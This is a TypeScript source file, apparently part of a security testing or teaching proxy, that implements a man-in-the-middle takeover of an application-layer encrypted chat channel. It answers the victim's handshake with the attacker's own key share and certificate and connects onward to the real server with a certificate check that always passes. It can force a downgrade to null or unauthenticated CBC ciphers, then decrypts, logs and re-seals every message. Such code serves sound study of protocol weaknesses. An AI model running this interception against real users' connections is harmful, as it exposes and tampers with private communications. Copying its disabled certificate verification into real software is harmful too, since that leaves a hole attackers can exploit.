/**
 * A man in the middle of the application-layer secure channel (docs/channel.md), acting on the
 * proxy engine's frame layer. Wherever the attacker reads the chat frames — plain transport, a
 * stripped STARTTLS, or TLS it terminated — it answers the victim's `ch_hello` itself (its own
 * X25519 share, and its own certificate for `rsa` and `ecdhe-signed`) and runs a second channel to
 * the real server, re-sealing every frame. Whether the victim goes along is decided by the
 * victim's own certificate check, exactly as for TLS.
 */
import { ChannelClient, ChannelServer, isChannelFrame } from '../../core/channel/index.ts';
import type { Frame } from '../../core/frames.ts';
import { CHANNEL_CIPHERS, type ChannelCipher, type Profile } from '../../core/profile.ts';
import type { CertKeyPem } from '../../core/tls/node-options.ts';
import type { Direction, ProxyConnection } from '../proxy.ts';

/** What the takeover lets an attack do with each chat frame it opened. */
export interface ChannelTakeoverOptions {
  /** the attacker's certificate for `rsa` / `ecdhe-signed` (null: it has none to offer) */
  identity: CertKeyPem | null;
  /**
   * Offer the victim the weakest cipher it proposes first (null, then aes-128-cbc), instead of
   * its own preference: what a downgrade does once it owns the victim's side of the channel.
   */
  preferWeakCipher?: boolean;
}

/** Channel ciphers that authenticate nothing (docs/channel.md), weakest first: null reads, CBC without MAC alters. */
export const UNAUTHENTICATED_CIPHERS: readonly ChannelCipher[] = ['null', 'aes-128-cbc'];

/** Per-connection takeover state. */
interface ConnState {
  victimSide: ChannelServer | null;
  serverSide: ChannelClient | null;
  /** opened frames waiting for the other side's channel to be established, per direction */
  queued: Record<Direction, Frame[]>;
}

/** One opened chat frame and where it goes. */
export interface OpenedFrame {
  dir: Direction;
  frame: Frame;
}

/** Position of `c` in {@link UNAUTHENTICATED_CIPHERS}, or after all of them for a cipher that authenticates. */
function weaknessRank(c: ChannelCipher): number {
  const i = UNAUTHENTICATED_CIPHERS.indexOf(c);
  return i < 0 ? UNAUTHENTICATED_CIPHERS.length : i;
}

/** Channel settings mirrored from the victim's ch_hello (the real server insists on the same). */
function settingsFromHello(hello: Frame, preferWeak: boolean): Profile['channel'] {
  // One offered name or a list of them; names that are no channel cipher are dropped.
  const ciphers = [hello.ciphers].flat().filter((c): c is ChannelCipher => CHANNEL_CIPHERS.includes(c as ChannelCipher));
  // Stable sort: the unauthenticated ciphers the victim offers first (weakest first), the rest in its order.
  if (preferWeak) ciphers.sort((a, b) => weaknessRank(a) - weaknessRank(b));
  return {
    keyExchange: hello.keyExchange as Profile['channel']['keyExchange'],
    ciphers: ciphers.length ? ciphers : ['aes-256-gcm'],
    transcriptMac: hello.transcriptMac === true,
    replayProtection: (hello.replayProtection as Profile['channel']['replayProtection']) ?? 'sequence',
    replayWindowMs: 30_000,
  };
}

/**
 * The channel takeover of every connection of one proxy: feed it the chat frames the engine
 * decoded, forward what it returns.
 */
export class ChannelTakeover {
  private readonly states = new WeakMap<ProxyConnection, ConnState>();
  constructor(private readonly opts: ChannelTakeoverOptions) {}

  /** True once both of `conn`'s channels (victim ↔ attacker ↔ server) are established. */
  established(conn: ProxyConnection): boolean {
    const st = this.states.get(conn);
    return !!st?.victimSide?.established && !!st.serverSide?.established;
  }

  /** The cipher the victim's side of the takeover negotiated, or null. */
  victimCipher(conn: ProxyConnection): string | null {
    return this.states.get(conn)?.victimSide?.negotiated?.cipher ?? null;
  }

  /** True once the attacker answered `conn`'s ch_hello itself. */
  active(conn: ProxyConnection): boolean {
    return !!this.states.get(conn)?.victimSide;
  }

  /**
   * Handles one chat frame crossing `conn`. Channel handshake frames are answered; sealed frames
   * are opened and handed to `onOpened`, whose result is sealed for the other side.
   * @returns the frames to forward in `dir` (possibly none); frames that are not the channel's pass unchanged
   */
  handle(conn: ProxyConnection, dir: Direction, frame: Frame, onOpened: (opened: OpenedFrame) => Frame[]): Frame[] {
    let st = this.states.get(conn);
    if (!st) {
      st = { victimSide: null, serverSide: null, queued: { c2s: [], s2c: [] } };
      this.states.set(conn, st);
    }
    if (!isChannelFrame(frame)) return [frame];
    if (dir === 'c2s' && frame.type === 'ch_hello' && !st.victimSide) {
      const settings = settingsFromHello(frame, this.opts.preferWeakCipher === true);
      const needsCert = settings.keyExchange === 'rsa' || settings.keyExchange === 'ecdhe-signed';
      if (needsCert && !this.opts.identity) return [frame];
      st.victimSide = new ChannelServer({ profileChannel: settings, serverCert: this.opts.identity ?? undefined });
      st.serverSide = new ChannelClient({ profileChannel: { ...settings, ciphers: settingsFromHello(frame, false).ciphers }, verifyCertificate: () => ({ ok: true }) });
      conn.note(`channel MITM: answered the victim's ch_hello (${settings.keyExchange}) with the attacker's own ${needsCert ? 'certificate and ' : ''}key share, and opened its own channel to the server`);
      const toVictim = st.victimSide.handle(frame);
      for (const f of toVictim.send) conn.injectFrame('s2c', f as unknown as Frame);
      return st.serverSide.start() as unknown as Frame[];
    }
    if (!st.victimSide || !st.serverSide) return [frame];
    const [from, to] = dir === 'c2s' ? [st.victimSide, st.serverSide] : [st.serverSide, st.victimSide];
    const backDir: Direction = dir === 'c2s' ? 's2c' : 'c2s';
    if (frame.type === 'ch_error') return [frame];
    const actions = from.handle(frame);
    for (const f of actions.send) conn.injectFrame(backDir, f as unknown as Frame);
    if (actions.error) {
      conn.note(`channel MITM: the ${dir === 'c2s' ? 'victim' : 'server'} side failed: ${actions.error.message}`);
      return [];
    }
    // Our side towards `backDir` just came up: release what the other end sent meanwhile.
    if (actions.established && st.queued[backDir].length) {
      for (const f of st.queued[backDir].splice(0)) conn.injectFrame(backDir, from.seal(f) as unknown as Frame);
    }
    const out: Frame[] = [];
    for (const app of actions.deliver) {
      const plain = app as Frame;
      conn.capture(dir, 'plaintext', Buffer.from(JSON.stringify(plain) + '\n'));
      for (const f of onOpened({ dir, frame: plain })) {
        // The victim may finish its handshake with us before ours with the server: hold frames until then.
        if (to.established) out.push(to.seal(f) as unknown as Frame);
        else st.queued[dir].push(f);
      }
    }
    return out;
  }
}
